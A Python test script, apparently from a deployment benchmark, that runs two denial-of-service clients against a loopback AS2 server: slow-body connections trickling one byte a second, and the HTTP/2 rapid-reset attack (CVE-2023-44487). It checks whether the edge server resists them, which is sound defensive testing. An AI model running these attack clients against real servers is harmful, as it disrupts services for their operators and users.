#!/usr/bin/env python3
"""Hostile clients for deploy/bench/inbound's `hostile` run (loopback only).

  hostile_clients.py slow PORT COUNT SECONDS FROM TO
      COUNT connections that each send the headers of a 1 MB message from a known
      partner and then one body byte a second, for SECONDS; prints how many were still
      open at the end (the edge keeps them within its minimum-rate rules).
  hostile_clients.py rapid-reset PORT STREAMS FROM TO
      one HTTP/2 connection that opens STREAMS requests and resets each at once (the
      rapid-reset attack, CVE-2023-44487); prints how many went out before the edge
      closed the connection, and whether it sent GOAWAY.
"""

import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def slow(port: int, count: int, seconds: int, as2_from: str, as2_to: str) -> None:
    sockets = []
    for index in range(count):
        connection = socket.create_connection(("127.0.0.1", port))
        head = (
            f"POST /as2 HTTP/1.1\r\nHost: bench\r\nAS2-From: {as2_from}\r\nAS2-To: {as2_to}\r\n"
            f"Message-ID: <slow-{index}-{time.time_ns()}@bench>\r\nContent-Type: application/pkcs7-mime\r\n"
            "Content-Length: 1000000\r\n\r\n"
        )
        connection.sendall(head.encode())
        sockets.append(connection)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for connection in list(sockets):
            try:
                connection.sendall(b"x")
            except OSError:
                sockets.remove(connection)
        time.sleep(1)
    print(f"slow: {len(sockets)} of {count} connections still open after {seconds} s")
    for connection in sockets:
        connection.close()


def rapid_reset(port: int, streams: int, as2_from: str, as2_to: str) -> None:
    connection = socket.create_connection(("127.0.0.1", port))
    connection.settimeout(5)
    h2conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    h2conn.initiate_connection()
    connection.sendall(h2conn.data_to_send())
    sent = 0
    goaway = False
    headers = [
        (":method", "POST"), (":path", "/as2"), (":scheme", "http"), (":authority", "bench"),
        ("as2-from", as2_from), ("as2-to", as2_to), ("content-type", "application/pkcs7-mime"),
    ]
    try:
        for _ in range(streams):
            stream_id = h2conn.get_next_available_stream_id()
            h2conn.send_headers(stream_id, headers + [("message-id", f"<rr-{stream_id}@bench>")])
            h2conn.reset_stream(stream_id)
            connection.sendall(h2conn.data_to_send())
            sent += 1
            connection.setblocking(False)
            try:
                data = connection.recv(65536)
                if data == b"":
                    break
                for event in h2conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = True
                connection.sendall(h2conn.data_to_send())
            except BlockingIOError:
                pass
            finally:
                connection.setblocking(True)
            if goaway:
                break
    except (OSError, h2.exceptions.ProtocolError):
        pass
    print(f"rapid-reset: {sent} of {streams} streams opened and reset before the edge "
          f"{'sent GOAWAY' if goaway else 'closed the connection' if sent < streams else 'kept going'}")
    connection.close()


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    if command == "slow":
        slow(int(args[0]), int(args[1]), int(args[2]), args[3], args[4])
    elif command == "rapid-reset":
        rapid_reset(int(args[0]), int(args[1]), args[2], args[3])
    else:
        sys.exit(__doc__)
